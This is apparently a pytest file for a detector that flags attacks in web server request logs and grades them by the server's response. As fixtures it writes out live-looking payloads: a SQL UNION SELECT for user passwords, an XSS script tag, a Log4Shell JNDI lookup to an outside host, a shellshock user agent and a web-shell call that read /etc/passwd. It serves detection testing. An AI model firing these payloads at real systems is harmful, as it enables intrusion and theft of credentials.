"""Attacks in requests: grouped, graded by what the server said, quiet on honest ones."""

from __future__ import annotations

from apps.contracts import Finding, Kind, Risk
from apps.detection.tools.web_request_signatures import TOOL
from tests.detection.made import ALICE, MALLORY, SHOP, Row, found, request

UNION = "/product?id=-1%20UNION%20SELECT%20name,password%20FROM%20users--"


def by_sign(findings: list[Finding]) -> dict[str, Finding]:
    return {one.parameters["signs"][0]: one for one in findings}


def test_one_finding_a_source_target_and_class() -> None:
    script = "/search?q=%3Cscript%3Ealert(1)%3C/script%3E"
    rows = [request(i, UNION) for i in range(5)] + [request(9, script, 404)]
    findings = by_sign(found(TOOL, rows, [request(20, UNION, source=ALICE)]))
    assert len(found(TOOL, rows, [request(20, UNION, source=ALICE)])) == 3
    sql, xss = findings["sql_injection"], findings["cross_site_scripting"]
    assert (xss.risk, xss.records) == (Risk.WEB_TAMPERING, (5,))
    assert sql.network == "requests"
    assert sql.host == sql.target == "shop"


def test_parameters_say_what_was_sent_and_what_came_back() -> None:
    (one,) = found(TOOL, [request(0, UNION), request(1, UNION, 500), request(2, "/product?id=7")])
    told = one.parameters
    assert one.records == (0, 1)
    assert told["http_status"] == {"200": 1, "500": 1}
    assert told["http_status_ok"] == 1
    assert told["signatures"]["sql-union-select"] == 2
    assert "UNION SELECT name" in told["samples"][0]
    assert told["paths"] == ["/product"]
    assert one.title == (
        f"SQL injection against shop from {MALLORY}: 2 requests, 1 answered with success"
    )


def test_what_the_server_refused_is_less_grave_than_what_it_answered() -> None:
    refused, unknown, answered = (
        found(TOOL, [request(0, UNION, status)])[0].severity for status in (403, None, 200)
    )
    assert refused < unknown < answered


def test_bodies_referrers_and_agents_are_read_too() -> None:
    lookup = "${jndi:ldap://203.0.113.9/a}"
    rows: list[Row] = [
        request(0, "/login", **{"http.request.body.content": "name=admin'--&password=x"}),
        request(1, "/", **{"http.request.referrer": f"https://x.example/{lookup}"}),
        request(2, "/", **{"user_agent.original": "sqlmap/1.7.2#stable (https://sqlmap.org)"}),
        request(3, "/", **{"user_agent.original": "() { :;}; /bin/cat /etc/passwd"}),
    ]
    findings = by_sign(found(TOOL, rows))
    assert findings["sql_injection"].records == (0,)
    assert findings["log4shell"].records == (1,)
    assert findings["vulnerability_scan"].records == (2,)
    assert findings["command_injection"].records == (3,)


def test_a_web_shell_is_one_only_if_it_answered() -> None:
    call = "/uploads/status.php?cmd=cat%20/etc/passwd"
    (answered,) = (
        f for f in found(TOOL, [request(0, call)]) if "shell" in f.parameters["signs"][0]
    )
    assert (answered.kind, answered.risk) == (Kind.WEB_SHELL, Risk.TROJAN)
    (searched,) = (
        f for f in found(TOOL, [request(0, call, 404)]) if "shell" in f.parameters["signs"][0]
    )
    assert searched.kind is Kind.WEB_INJECTION
    assert searched.title.startswith("Search for web shells")
    assert searched.severity < 45


def test_secrets_and_control_characters_do_not_reach_the_samples() -> None:
    body = "user=' or 'a'='a&token=SECRETVALUE\x07\x1b[31m"
    (one,) = found(TOOL, [request(0, "/login", **{"http.request.body.content": body})])
    (sample,) = one.parameters["samples"]
    assert "SECRETVALUE" not in sample
    assert sample.isprintable()


def test_honest_requests_are_quiet() -> None:
    honest = [
        "/",
        "/search?q=rock+'n'+roll+and+select+committee",
        "/search?q=union+of+students+select+from+our+range",
        "/customers?name=O'Brien&sort=name+desc",
        "/product?id=5&color=%23ff0000&size=10--12",
        "/docs/../index.html",
        "/share?url=https%3A%2F%2Fexample.org%2Fa.php%3Fx%3D1",
        "/calc?expr=1%2B1%3D2&note=a%26b%7Cc",
        "/wiki/Script_(theatre)?action=edit&section=3",
        "/wp-admin/admin-ajax.php?action=heartbeat",
        "/api/v1/items?filter[price][gt]=10&order=price",
        "/javascript:void(0)",
        "/search?q=caf%C3%A9+%E2%80%93+d%C3%A9j%C3%A0+vu",
        "/login?next=/account/orders",
        "/static/app.js?v=1.2.3",
    ]
    bodies = ["text=Meet at 5; drop by if you like&from=x", '{"sep": "--", "color": "#fff"}']
    rows = [request(i, url) for i, url in enumerate(honest)]
    rows += [
        request(i, "/contact", **{"http.request.body.content": body})
        for i, body in enumerate(bodies)
    ]
    assert found(TOOL, rows) == []


def test_flows_and_lines_without_a_source_are_left_alone() -> None:
    assert found(TOOL, [{**request(0, UNION), "source.ip": None, "destination.ip": SHOP}]) == []
